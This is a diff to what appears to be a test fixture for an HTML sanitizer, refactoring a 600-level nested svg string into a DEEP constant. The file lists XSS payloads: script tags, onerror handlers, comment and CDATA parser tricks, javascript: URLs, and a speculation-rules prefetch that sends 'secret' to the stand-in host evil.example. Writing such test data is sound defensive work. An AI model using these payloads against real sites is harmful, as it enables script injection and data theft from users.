@@ -2,6 +2,8 @@
 
 URL = 'https://evil.example/?q=secret'
 # HTML that runs scripts, loads resources, changes the page or exploits parsers. Scripts call `attack()`.
+# More levels than the HTML parser of browsers keeps.
+DEEP = '<svg>' * 600
 HTML = [
     '<script>attack()</script>',
     '<img src=x onerror=attack()>',
@@ -44,7 +46,7 @@ HTML = [
     '<!--><img src=x onerror=attack()>--><!-- --!><img src=x onerror=attack()>',
     '<![CDATA[><img src=x onerror=attack()>]]><?xml-stylesheet href="javascript:attack()"?>',
     '"></div></article></main></script><script>attack()</script>',
-    f'{"<svg>" * 600}</p><style><!--</style><img src=x onerror=attack()>',
+    f'{DEEP}</p><style><!--</style><img src=x onerror=attack()>',
     f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{URL}"]}}]}}</script>',
 ]
 # Addresses that are not those of web pages or mail, or that contain markup.
